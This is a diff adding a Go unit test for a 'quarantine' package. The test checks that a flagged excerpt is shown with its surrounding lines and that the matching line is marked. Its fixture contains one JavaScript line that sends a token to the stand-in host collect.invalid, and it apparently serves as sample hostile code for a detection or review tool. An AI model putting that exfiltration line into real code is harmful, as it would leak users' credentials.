@@ -1,0 +1,29 @@
+package quarantine
+
+import (
+	"strings"
+	"testing"
+)
+
+// An excerpt is shown in its file with the lines around it, the lines it
+// covers marked, however long the file.
+func TestInContextMarksTheExcerpt(t *testing.T) {
+	var b strings.Builder
+	for i := 1; i <= 40; i++ {
+		if i == 20 {
+			b.WriteString("fetch('https://collect.invalid', {body: token})\n")
+			continue
+		}
+		b.WriteString("ok()\n")
+	}
+	var c FindingContext
+	inContext(&c, []byte(b.String()), "collect.invalid', {body")
+	if c.Note != "" || c.First != 15 || len(c.Lines) != 11 || len(c.Match) != 1 || !strings.Contains(c.Lines[c.Match[0]], "collect.invalid") {
+		t.Fatalf("context = %+v, want lines 15-25 with line 20 marked", c)
+	}
+	var miss FindingContext
+	inContext(&miss, []byte("nothing here\n"), "collect.invalid")
+	if miss.Note == "" || miss.Lines != nil {
+		t.Fatalf("an excerpt not in the file gave %+v, want a note", miss)
+	}
+}
